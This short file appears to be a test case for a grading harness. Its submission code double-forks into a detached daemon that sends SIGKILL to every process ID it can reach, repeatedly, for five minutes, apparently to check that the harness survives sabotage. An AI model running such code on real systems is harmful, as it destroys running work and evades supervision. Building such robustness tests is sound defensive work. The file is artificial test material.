# case: a blank submission that leaves a daemon (double fork, new session) killing every process it can see for minutes
# base: release
# honest-after: 25
# expect:
# says: zeros-check: not graded

# %% after setup
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 300
        while time.time() < end:
            for pid in range(2, 5000):
                if pid != os.getpid():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.02)
    os._exit(0)
os.wait()
